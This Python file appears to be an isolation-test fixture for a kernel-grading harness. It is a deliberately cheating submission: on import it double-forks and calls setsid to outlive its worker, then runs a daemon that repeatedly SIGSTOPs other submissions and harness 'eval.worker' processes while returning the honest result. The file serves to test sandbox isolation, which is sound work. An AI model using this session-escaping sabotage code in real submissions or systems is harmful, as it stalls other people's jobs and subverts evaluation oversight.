"""Cheat (outliving its worker): on import, forks a daemon the usual way (fork, setsid, fork again)
named "nvfp4daemon" (its /proc comm), which for two minutes sends SIGSTOP every 0.2 s to every
process whose command line holds "nvfp4-victim" or runs a harness worker ("eval.worker"): the
submissions judged after it would stall. Computes the right answer itself. Must pass, and the daemon
must be gone when its worker is (tests/test_isolation.py): setsid is refused, and the judge kills the
worker's whole session."""
import ctypes
import importlib.util
import os
import pathlib
import signal
import sys
import time

_spec = importlib.util.spec_from_file_location("_honest", pathlib.Path(__file__).parents[2] / "submission" / "torch_ref.py")
_honest = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_honest)


def _targets():
    own = os.getsid(0)  # its own worker (and itself) are spared
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            if os.getsid(int(pid)) == own:
                continue
        except OSError:
            continue
        if b"nvfp4-victim" in cmd or b"eval.worker" in cmd:
            yield int(pid)


def _daemon():
    ctypes.CDLL(None).prctl(15, b"nvfp4daemon", 0, 0, 0)  # PR_SET_NAME
    end = time.monotonic() + 120
    reported = set()
    while time.monotonic() < end:
        for pid in _targets():
            try:
                os.kill(pid, signal.SIGSTOP)
                outcome = "stopped"
            except OSError as exc:
                outcome = exc.strerror
            if pid not in reported:  # into the worker log, for whoever checks
                reported.add(pid)
                print(f"nvfp4daemon: SIGSTOP {pid}: {outcome}", file=sys.stderr, flush=True)
        time.sleep(0.2)
    os._exit(0)


if os.fork() == 0:
    try:
        os.setsid()
        print("nvfp4daemon: setsid allowed", file=sys.stderr, flush=True)
    except OSError as exc:
        print(f"nvfp4daemon: setsid {exc.strerror}", file=sys.stderr, flush=True)
    if os.fork() == 0:
        _daemon()
    os._exit(0)


def custom_kernel(data):
    return _honest.custom_kernel(data)
